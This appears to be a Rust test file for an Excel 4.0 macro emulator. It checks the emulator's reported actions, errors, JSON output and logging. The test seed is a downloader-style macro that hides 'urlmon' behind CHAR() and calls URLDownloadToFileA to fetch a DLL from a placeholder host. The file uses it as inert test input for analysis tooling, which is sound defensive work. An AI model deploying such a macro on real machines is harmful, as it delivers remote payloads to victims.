use std::io::{self, Write as _};
use std::sync::{Arc, Mutex};

use tracing_subscriber::fmt::MakeWriter;
use xlmulator::{ActionKind, EvalConfig, SheetSeed, emulate};

const SEED: &str = r#"{
    "sheet": "Macro1",
    "cells": {
        "A1": "=SET.VALUE(C1, CHAR(117)&\"rlmon\")",
        "A2": "=CALL(C1,\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://a.b/p\",\"C:\\\\p.dll\",0,0)",
        "A3": "=NOSUCH(1)",
        "A4": "=HALT()",
        "B9": 7
    }
}"#;

#[test]
fn seed_file_round_trip() {
    let mut file = tempfile::NamedTempFile::new().unwrap();
    file.write_all(SEED.as_bytes()).unwrap();
    let raw = std::fs::read_to_string(file.path()).unwrap();
    let seed: SheetSeed = serde_json::from_str(&raw).unwrap();

    let report = emulate(&seed, EvalConfig::default()).unwrap();
    assert_eq!(report.sheet, "Macro1");

    let kinds: Vec<_> = report.actions.iter().map(|a| a.kind).collect();
    assert_eq!(kinds, vec![ActionKind::Call, ActionKind::Halt]);
    assert_eq!(
        report.actions[0].as_tuple(),
        (
            "CALL",
            "URLDownloadToFileA(0, http://a.b/p, C:\\p.dll, 0, 0)",
            "From DLL 'urlmon'"
        )
    );

    assert_eq!(report.failures.len(), 1);
    assert_eq!(report.failures[0].cell, "$R3$C1");
    assert_eq!(report.failures[0].category, "unknown_function");
    assert!(report.formulas.contains("$R3$C1:\tNOSUCH(1)\n"));
}

#[test]
fn report_serializes_to_json() {
    let seed: SheetSeed = serde_json::from_str(SEED).unwrap();
    let report = emulate(&seed, EvalConfig::default()).unwrap();
    let json: serde_json::Value = serde_json::to_value(&report).unwrap();
    assert_eq!(json["actions"][1]["kind"], "HALT");
    assert_eq!(json["actions"][0]["note"], "From DLL 'urlmon'");
    assert_eq!(json["failures"][0]["category"], "unknown_function");
}

#[test]
fn bad_cell_ids_are_reported() {
    let seed: SheetSeed = serde_json::from_str(r#"{"cells": {"not a cell": 1}}"#).unwrap();
    let err = emulate(&seed, EvalConfig::default()).unwrap_err();
    assert_eq!(err.category(), "invalid_reference");
}

#[derive(Clone, Default)]
struct LogSink(Arc<Mutex<Vec<u8>>>);

impl io::Write for LogSink {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(buf);
        Ok(buf.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

impl<'a> MakeWriter<'a> for LogSink {
    type Writer = LogSink;

    fn make_writer(&'a self) -> Self::Writer {
        self.clone()
    }
}

#[test]
fn emulation_logs_a_summary() {
    let seed: SheetSeed = serde_json::from_str(SEED).unwrap();
    let sink = LogSink::default();
    let subscriber = tracing_subscriber::fmt()
        .with_writer(sink.clone())
        .with_max_level(tracing::Level::INFO)
        .finish();
    let report = tracing::subscriber::with_default(subscriber, || {
        emulate(&seed, EvalConfig::default()).unwrap()
    });

    let logs = String::from_utf8_lossy(&sink.0.lock().unwrap()).into_owned();
    assert!(logs.contains("emulation finished"), "{logs}");
    assert!(logs.contains("actions=2"), "{logs}");
    assert!(logs.contains("failures=1"), "{logs}");
    assert_eq!(report.actions.len(), 2);
}
